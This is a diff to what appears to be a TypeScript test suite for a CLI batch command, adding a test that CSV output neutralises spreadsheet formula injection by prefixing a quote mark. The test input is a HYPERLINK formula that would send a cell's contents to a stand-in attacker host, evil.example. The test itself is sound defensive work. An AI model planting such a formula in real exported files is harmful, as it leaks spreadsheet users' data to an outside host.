@@ -112,6 +112,28 @@ if (missing) {
     t.match(again.stderr, /exists: pass --resume/);
   });
 
+  t.test('batch › CSV: a keyword that is a spreadsheet formula lands as text', async (t) => {
+    const keyword = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
+    const out = join(dir, 'formula.csv');
+    const res = await cliResult([
+      'batch',
+      keywordsFile('formula.txt', [keyword]),
+      '--out',
+      out,
+      '--base-url',
+      url,
+      '--key',
+      key,
+    ]);
+    t.equal(res.code, 0, res.stderr.slice(-500));
+    const rows = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
+    t.ok(rows.length >= 90, `${rows.length} rows`);
+    t.ok(
+      rows.every((r) => r.keyword === `'${keyword}`),
+      'the keyword cell starts with a quote mark, so no spreadsheet runs it',
+    );
+  });
+
   t.test('batch › kill -9 in the middle, then --resume: every keyword, none searched twice', async (t) => {
     const keywords = Array.from({ length: 24 }, (_, i) => `batch resume ${i}`);
     const file = keywordsFile('c.txt', keywords);
